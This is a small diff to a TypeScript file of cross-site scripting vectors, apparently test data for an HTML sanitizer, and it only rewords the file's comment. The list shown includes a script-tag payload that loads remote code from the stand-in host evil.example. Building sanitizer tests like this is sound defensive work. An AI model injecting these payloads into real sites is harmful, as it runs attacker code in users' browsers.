@@ -1,4 +1,4 @@
-/** Markup that runs a script, or turns into some that does, when a reader of rich text is careless. */
+/** Markup that runs a script, or turns into one that does, when rich text is sanitized carelessly. */
 export const vectors: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
